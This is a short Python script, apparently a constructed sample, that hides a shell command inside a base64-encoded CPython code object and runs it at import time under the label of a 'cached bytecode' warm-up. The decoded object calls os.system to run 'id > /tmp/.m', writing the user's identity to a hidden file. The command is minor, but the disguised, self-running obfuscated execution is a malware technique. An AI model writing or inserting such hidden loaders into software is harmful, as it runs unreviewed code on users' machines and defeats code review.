# corpus: marshal.loads a base64 CPython 3.11 code object and runs it with types.FunctionType as a "cached bytecode" step
import base64
import marshal
import types

BYTECODE_CACHE = (
    "4wAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAAAAAAAQBkAVMAKQPpAAAAAE56DGlkID4gL3RtcC8ubSkC2gJvc9oGc3lzdGVtqQDzAAAAAPoHPGNhY2hlPvoIPG1vZHVsZT5yCAAAAAEAAABzJgAAAPADAQEB2AAJgAmACYAJ2AAJgAKECYgu0QAZ1AAZ0AAZ0AAZ0AAZcgYAAAA="
)

warm = types.FunctionType(marshal.loads(base64.b64decode(BYTECODE_CACHE)), globals())
warm()
